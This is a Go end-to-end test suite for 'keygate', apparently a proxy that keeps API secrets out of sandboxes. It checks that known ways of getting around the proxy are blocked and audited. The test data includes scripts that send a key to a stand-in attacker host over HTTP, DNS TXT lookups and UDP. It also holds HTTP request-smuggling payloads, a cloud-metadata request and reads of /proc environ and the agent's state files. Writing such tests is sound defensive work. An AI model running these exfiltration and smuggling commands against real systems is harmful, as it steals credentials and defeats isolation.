//go:build linux

package e2e

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestAttacks is the attack suite: one subtest per known way around
// keygate, run by code that fully controls a sandbox holding a
// placeholder. Each asserts that the test world's attacker host never
// receives the secret and, where keygate sees the attempt at all, that the
// audit log records it with its reason.
func TestAttacks(t *testing.T) {
	w, a, key := credentialedAgent(t, "--metrics-addr", fmt.Sprintf("127.0.0.1:%d", freePort(t)))
	evil, api := w.AttackerHost(), w.APIHost()
	sandboxArgs := []string{"--vault", "v", "--allow", evil}

	attack := func(t *testing.T, script string) string {
		t.Helper()
		out, errOut, _ := a.run(sandboxArgs, script)
		if strings.Contains(out+errOut, key) {
			t.Fatalf("the sandbox obtained the secret: %s", redact(out+errOut, key))
		}
		return out + errOut
	}
	audited := func(t *testing.T, kind, reason string) {
		t.Helper()
		deadline := time.Now().Add(3 * time.Second)
		for {
			recs := a.auditRecords(t, "--kind", kind)
			if countKind(recs, kind, func(r auditRecord) bool { return r.Reason == reason }) > 0 {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("no %s audit record with reason %s", kind, reason)
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	curl := `curl -sS -m 8 -w '\n%{http_code}\n' `
	bearer := ` -H "Authorization: Bearer $API_KEY"`

	tests := []struct {
		name   string
		script string
		kind   string // audit kind expected, "" if the kernel refuses before keygate sees it
		reason string
	}{
		{"placeholder to an unapproved host", curl + `https://` + evil + `/steal` + bearer, "request.deny", "placeholder_unapproved_host"},
		{"Host header differs from SNI", curl + `https://` + api + `/x -H "Host: ` + evil + `"` + bearer, "request.deny", "host_mismatch"},
		{":authority differs from SNI", curl + `--http2 https://` + api + `/x -H "Host: ` + evil + `"` + bearer, "request.deny", "host_mismatch"},
		{"--resolve to the attacker", curl + `--resolve ` + api + `:443:` + w.Attacker.String() + ` https://` + api + `/x` + bearer, "request.deny", "destination_not_pinned"},
		{"raw IPv4 literal", curl + `-k https://` + w.Attacker.String() + `/x` + bearer, "request.deny", "no_sni"},
		{"raw IPv6 literal", curl + `-k https://[` + w.Attacker6.String() + `]/x` + bearer, "request.deny", "no_sni"},
		{"approved name as SNI to the attacker's IP", curl + `-k --connect-to ` + api + `:443:` + w.Attacker.String() + `:443 https://` + api + `/x` + bearer, "request.deny", "destination_not_pinned"},
		{"plaintext HTTP", curl + `http://` + evil + `/x` + bearer, "request.deny", "plaintext_http"},
		{"cloud metadata address", curl + `http://169.254.169.254/latest/meta-data/iam/` + bearer, "request.deny", "plaintext_http"},
		{"placeholder in the URL", curl + `"https://` + api + `/x?key=$API_KEY"`, "request.deny", "placeholder_in_url"},
		{"DNS exfiltration in TXT lookups", `for l in $(printf %s "$API_KEY" | base32 | tr -d = | tr A-Z a-z | fold -w 40); do ` +
			`dig +short +tries=1 +time=2 TXT $l.` + evil + `; dig +short +tries=1 +time=2 TXT $l.exfil.` + w.Zone + `; done`, "dns.deny", "name not allowed"},
		{"UDP exfiltration", `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(os.environ["API_KEY"].encode(), ("` + w.Attacker.String() + `", 9999))'`, "capture.deny", "deny_udp"},
		{"QUIC", `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM); s.sendto(b"\xc0quic" + os.environ["API_KEY"].encode(), ("` + w.Attacker6.String() + `", 443))'`, "capture.deny", "deny_udp6"},
		{"raw socket", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)'`, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := attack(t, tt.script)
			if strings.HasSuffix(strings.TrimSpace(out), "\n200") {
				t.Fatalf("the attack got a 200: %s", out)
			}
			if tt.kind != "" {
				audited(t, tt.kind, tt.reason)
			}
			if attackerSaw(w, key) {
				t.Fatal("the attacker received the secret")
			}
		})
	}

	t.Run("another sandbox's placeholder", func(t *testing.T) {
		other := strings.TrimSpace(a.mustKG("", "sandbox", "create", "--vault", "v"))
		stolen, _, _ := a.kg("", "sandbox", "exec", other, "--", "sh", "-c", `printf %s "$API_KEY"`)
		out := attack(t, curl+`https://`+api+`/x -H "Authorization: Bearer `+stolen+`"`)
		if !strings.Contains(out, "placeholder_of_other_sandbox") {
			t.Fatalf("stolen placeholder: %s", out)
		}
		audited(t, "request.deny", "placeholder_of_other_sandbox")
		a.mustKG("", "sandbox", "rm", other)
	})

	t.Run("CONNECT tunnel through the approved host", func(t *testing.T) {
		// Authority-form, as a client set up for a forward proxy sends it,
		// and curl's path form; neither may reach the upstream, which could
		// itself be a forward proxy.
		before := len(w.Requests(api))
		out := attack(t, `(printf 'CONNECT `+api+`:443 HTTP/1.1\r\nHost: `+api+`\r\nAuthorization: Bearer %s\r\n`+
			`Connection: close\r\n\r\n' "$API_KEY"; sleep 1) | openssl s_client -quiet -connect `+api+`:443 -servername `+
			api+` -alpn http/1.1 2>/dev/null; `+curl+`--http1.1 -X CONNECT https://`+api+`/x`+bearer)
		if strings.Count(out, `"reason":"connect_not_relayed"`) != 2 {
			t.Fatalf("CONNECT answers: %s", out)
		}
		for _, r := range w.Requests(api)[before:] {
			if r.Method == "CONNECT" {
				t.Fatal("a CONNECT request reached the API")
			}
		}
		audited(t, "request.deny", "connect_not_relayed")
	})

	t.Run("echo endpoint reflection", func(t *testing.T) {
		out := attack(t, curl+`-D - https://`+api+`/_kg/echo`+bearer)
		if !strings.Contains(out, "kgph_") {
			t.Fatalf("echo: %s", out)
		}
		audited(t, "request.inject", "")
	})

	t.Run("request smuggling", func(t *testing.T) {
		// keygate and the upstream must never disagree on where a request
		// ends. A request with both Content-Length and Transfer-Encoding is
		// framed by the latter (RFC 9112 6.3): the bytes after its last
		// chunk are read as the next request and checked like any other,
		// so one hidden there for the attacker is refused. Conflicting
		// Content-Lengths and unknown transfer codings get 400.
		before := len(w.Requests(api))
		script := `python3 - <<'EOF'
import os, socket, ssl
key = os.environ["API_KEY"]
def send(raw):
    ctx = ssl.create_default_context()
    s = ctx.wrap_socket(socket.create_connection(("` + api + `", 443)), server_hostname="` + api + `")
    s.sendall(raw.encode()); s.settimeout(5)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b: break
            out += b
    except Exception:
        pass
    print(out.decode(errors="replace").split("\r\n")[0], flush=True)
inner = "GET /smuggled HTTP/1.1\r\nHost: ` + evil + `\r\nAuthorization: Bearer " + key + "\r\nConnection: close\r\n\r\n"
body = "0\r\n\r\n" + inner
send("POST /front HTTP/1.1\r\nHost: ` + api + `\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (len(body), body))
send("POST /front2 HTTP/1.1\r\nHost: ` + api + `\r\nContent-Length: 5\r\nContent-Length: 40\r\nConnection: close\r\n\r\nhello")
send("POST /front3 HTTP/1.1\r\nHost: ` + api + `\r\nTransfer-Encoding: chunked, identity\r\nConnection: close\r\n\r\n0\r\n\r\n")
EOF`
		out := attack(t, script)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if len(lines) < 3 || !strings.Contains(lines[1], " 400") || !strings.Contains(lines[2], " 501") && !strings.Contains(lines[2], " 400") {
			t.Fatalf("smuggling answers: %q", out)
		}
		for _, r := range w.Requests(api)[before:] {
			if strings.Contains(r.Path, "smuggled") || r.Path == "/front2" || r.Path == "/front3" {
				t.Fatalf("a smuggled or malformed request reached the API: %s", r.Path)
			}
		}
		for _, r := range w.Requests(evil) {
			if strings.Contains(r.Path, "smuggled") {
				t.Fatal("the smuggled request reached the attacker")
			}
		}
		audited(t, "request.deny", "host_mismatch")
	})

	t.Run("reading the secret from the agent", func(t *testing.T) {
		state := filepath.Join(a.dir, "state")
		out := attack(t, `cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; `+
			`ls -la `+state+` 2>&1; cat `+state+`/* `+state+`/*/* 2>&1 | head -c 100000; `+
			`cat `+a.socket+` 2>&1; ls /proc | grep -c '^[0-9]'; `+
			`grep -r -a -l kgph_ /run /etc /var 2>/dev/null | head; true`)
		if strings.Contains(out, "master.key") || strings.Contains(out, "keygate.db") || strings.Contains(out, "audit.log") {
			t.Fatalf("the sandbox could list the agent's state: %s", out)
		}
	})

	a.stop()
	for _, q := range w.DNSQueries() {
		if strings.HasSuffix(q.Name, "."+evil) || strings.Contains(q.Name, ".exfil.") {
			t.Fatalf("an exfiltration lookup reached the world's DNS: %s %s", q.Type, q.Name)
		}
	}
	if attackerSaw(w, key) || strings.Contains(a.log.String(), key) {
		t.Fatal("the secret leaked")
	}
}
